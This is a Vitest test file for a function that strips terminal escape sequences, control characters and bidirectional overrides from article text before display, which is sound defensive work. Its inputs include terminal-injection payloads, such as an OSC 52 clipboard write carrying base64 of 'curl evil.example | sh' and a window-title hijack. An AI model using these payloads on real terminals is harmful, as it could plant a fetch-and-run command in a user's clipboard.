import {describe, expect, it} from 'vitest';
import {CONTROL_STRING, CSI_SEQUENCE, sanitizeLine, sanitizeText, TAB_WIDTH} from '../../source/core/sanitize.js';

const ESC = '\u001B';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** Every character a terminal could act on: C0 controls except tab and newline, DEL, and C1 controls. */
const forbidden = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;

describe('sanitizeText: escape sequences', () => {
	it('removes colour codes and keeps the coloured words', () => {
		expect(sanitizeText(`${ESC}[31mred${ESC}[0m and ${ESC}[1;38;5;208mbold orange${ESC}[m`)).toBe('red and bold orange');
	});

	it('removes screen clears and cursor moves', () => {
		expect(sanitizeText(`before${ESC}[2J${ESC}[H${ESC}[10;20Hafter`)).toBe('beforeafter');
	});

	it('removes switches to the alternate screen', () => {
		expect(sanitizeText(`a${ESC}[?1049hb${ESC}[?1049lc`)).toBe('abc');
	});

	it('removes an 8-bit CSI colour code', () => {
		expect(sanitizeText('plain \u009B31mred\u009B0m text')).toBe('plain red text');
	});

	it('removes a window-title change ended by BEL', () => {
		expect(sanitizeText(`headline${ESC}]0;pwned${BEL} continues`)).toBe('headline continues');
	});

	it('removes a window-title change ended by ST', () => {
		expect(sanitizeText(`headline${ESC}]0;x${ST} continues`)).toBe('headline continues');
	});

	it('removes an 8-bit OSC window-title change', () => {
		expect(sanitizeText('a\u009D0;pwned\u009Cb')).toBe('ab');
	});

	it('removes an OSC 52 clipboard write so the article cannot fill the clipboard', () => {
		const payload = Buffer.from('curl evil.example | sh').toString('base64');
		expect(sanitizeText(`Copy this${ESC}]52;c;${payload}${BEL} safely`)).toBe('Copy this safely');
		expect(sanitizeText(`Copy this${ESC}]52;c;${payload}${ST} safely`)).toBe('Copy this safely');
	});

	it('removes OSC 8 hyperlinks and keeps the link text', () => {
		expect(sanitizeText(`see ${ESC}]8;;https://evil.example${ST}this page${ESC}]8;;${ST} now`)).toBe('see this page now');
		expect(sanitizeText(`see ${ESC}]8;id=1;https://evil.example${BEL}this page${ESC}]8;;${BEL} now`)).toBe('see this page now');
	});

	it('removes a DCS string', () => {
		expect(sanitizeText(`a${ESC}P1;2|secret payload${ST}b`)).toBe('ab');
	});

	it('removes SOS, PM and APC strings', () => {
		expect(sanitizeText(`a${ESC}Xsos${ST}b${ESC}^pm${ST}c${ESC}_apc${ST}d`)).toBe('abcd');
	});

	it('drops an unterminated OSC to the end of the text, as a terminal would swallow it', () => {
		expect(sanitizeText(`kept${ESC}]0;never closed`)).toBe('kept');
	});

	it('removes other two-character escapes (keypad mode, reset)', () => {
		expect(sanitizeText(`a${ESC}=b${ESC}>c${ESC}cd${ESC}(Be`)).toBe('abcde');
	});
});

describe('sanitizeText: control characters', () => {
	it('removes C1 control characters', () => {
		expect(sanitizeText('a\u0085b\u008Ec\u0091d')).toBe('abcd');
	});

	it('removes the bell so reading an article never beeps', () => {
		expect(sanitizeText(`ding${BEL}dong`)).toBe('dingdong');
	});

	it('removes backspaces so text cannot overwrite what is shown', () => {
		expect(sanitizeText('safe\b\b\b\bevil')).toBe('safeevil');
	});

	it('turns CRLF line endings into LF', () => {
		expect(sanitizeText('one\r\ntwo\r\nthree')).toBe('one\ntwo\nthree');
	});

	it('removes a lone carriage return so a line cannot be overprinted', () => {
		expect(sanitizeText('visible\rhidden')).toBe('visiblehidden');
	});

	it('removes NUL and DEL', () => {
		expect(sanitizeText('a\u0000b\u007Fc')).toBe('abc');
	});

	it('removes vertical tab and form feed', () => {
		expect(sanitizeText('a\u000Bb\u000Cc')).toBe('abc');
	});

	it('keeps newlines', () => {
		expect(sanitizeText('first\n\nsecond\n')).toBe('first\n\nsecond\n');
	});

	it('turns tabs into spaces', () => {
		expect(sanitizeText('\tindented')).toBe(`${' '.repeat(TAB_WIDTH)}indented`);
		const text = sanitizeText('a\tb\t\tc');
		expect(text).not.toContain('\t');
		expect(text).toMatch(/^a +b +c$/);
	});

	it('removes bidirectional overrides that would make text display in a different order', () => {
		expect(sanitizeText('abc\u202Eevil\u202C def')).toBe('abcevil def');
		expect(sanitizeText('x\u202Ay\u202Bz\u202Dw')).toBe('xyzw');
		expect(sanitizeText('\u2066a\u2067b\u2068c\u2069')).toBe('abc');
	});
});

describe('sanitizeText: ordinary text is untouched', () => {
	it.each([
		['CJK', '港口議会は古いフェリー乗り場の閉鎖を決定した。한국어 텍스트. 中文新闻。'],
		['emoji', 'Harbour vote 🚢⚓ 👩🏽‍🔬 🇬🇧 done ✅'],
		['accented Latin', 'Café crème, naïve façade, Ångström, Łódź, São Tomé, Straße'],
		['Arabic and Hebrew (right-to-left letters, not overrides)', 'مرحبا بالعالم שלום עולם'],
		['punctuation and symbols', 'Price: £4.2m — up 3% (“quoted”) [brackets] {braces} <angle> & ~tilde`'],
	])('keeps %s text unchanged', (_name, text) => {
		expect(sanitizeText(text)).toBe(text);
	});

	it('returns an empty string for empty input', () => {
		expect(sanitizeText('')).toBe('');
	});
});

describe('sanitizeText: nothing dangerous survives', () => {
	it('leaves no control character from a hostile mix of sequences', () => {
		const allControls = Array.from({length: 0x20}, (_, code) => String.fromCodePoint(code)).join('')
			+ Array.from({length: 0x21}, (_, index) => String.fromCodePoint(0x7F + index)).join('');
		const nasty = [
			`${ESC}[31m`,
			`${ESC}[2J`,
			`${ESC}[?1049h`,
			`${ESC}]0;pwned${BEL}`,
			`${ESC}]0;x${ST}`,
			`${ESC}]52;c;ZWNobyBoaQ==${BEL}`,
			`${ESC}]8;;https://x${ST}link${ESC}]8;;${ST}`,
			`${ESC}P1$r${ST}`,
			'\u009B31m',
			'\u009D0;t\u009C',
			`${ESC}${ESC}[[31m`,
			`${ESC}[${ESC}]${BEL}`,
			`${ESC}`,
			'\r\n\r',
			'\b\u0000\u007F',
			allControls,
			allControls.split('').reverse().join(''),
			'text 文字 🙂',
			`${ESC}[38;2;255;0;0`,
			`${ESC}]0;unterminated`,
		].join('between');

		const clean = sanitizeText(nasty);
		const survivors = [...clean].filter(character => forbidden.test(character));
		expect(survivors.map(character => character.codePointAt(0)!.toString(16))).toEqual([]);
		expect(clean).toContain('between');
	});

	it('leaves no control character whatever single control code is placed before ordinary text', () => {
		for (let code = 0; code <= 0x9F; code++) {
			if (code >= 0x20 && code < 0x7F) {
				continue;
			}

			const clean = sanitizeText(`a${String.fromCodePoint(code)}[31mb${String.fromCodePoint(code)}]0;t${BEL}c`);
			expect(forbidden.test(clean), `code 0x${code.toString(16)} left ${JSON.stringify(clean)}`).toBe(false);
		}
	});
});

describe('sanitizeLine', () => {
	it('folds newlines into single spaces', () => {
		expect(sanitizeLine('a title\nthat wraps\r\nover lines')).toBe('a title that wraps over lines');
	});

	it('folds runs of spaces and tabs and trims the ends', () => {
		expect(sanitizeLine('  spaced \t  out  ')).toBe('spaced out');
	});

	it('removes escape sequences from a title', () => {
		const line = sanitizeLine(`${ESC}[31mBreaking${ESC}[0m: ${ESC}]0;pwned${BEL}news`);
		expect(line).toBe('Breaking: news');
		expect(line).not.toContain(ESC);
	});

	it('keeps non-ASCII letters', () => {
		expect(sanitizeLine('Café\n東京 🚢')).toBe('Café 東京 🚢');
	});
});

describe('CSI_SEQUENCE and CONTROL_STRING: complete sequences only (for the keyboard filter)', () => {
	const matches = (pattern: RegExp, text: string) => [...text.matchAll(pattern)].map(match => match[0]);

	it('finds each key and colour code as a whole', () => {
		expect(matches(CSI_SEQUENCE, `a${ESC}[A${ESC}[1;5C${ESC}[5~${ESC}[38;5;208mb\u009B31m`))
			.toEqual([`${ESC}[A`, `${ESC}[1;5C`, `${ESC}[5~`, `${ESC}[38;5;208m`, '\u009B31m']);
	});

	it('leaves a CSI cut off before its final byte alone (the rest may come in the next chunk)', () => {
		expect(matches(CSI_SEQUENCE, `text ${ESC}[1;5`)).toEqual([]);
	});

	it('finds a string up to its BEL or ST, and not an unterminated one', () => {
		expect(matches(CONTROL_STRING, `a${ESC}]0;title${BEL}b${ESC}P1$r${ST}c\u009D8;;x\u009C`))
			.toEqual([`${ESC}]0;title${BEL}`, `${ESC}P1$r${ST}`, '\u009D8;;x\u009C']);
		expect(matches(CONTROL_STRING, `a${ESC}]0;no end yet`)).toEqual([]);
	});

	it('removes every sequence when used with replace, however often it is used', () => {
		const text = `x${ESC}[31my${ESC}[0mz`;
		expect(text.replace(CSI_SEQUENCE, '')).toBe('xyz');
		expect(text.replace(CSI_SEQUENCE, '')).toBe('xyz');
	});
});
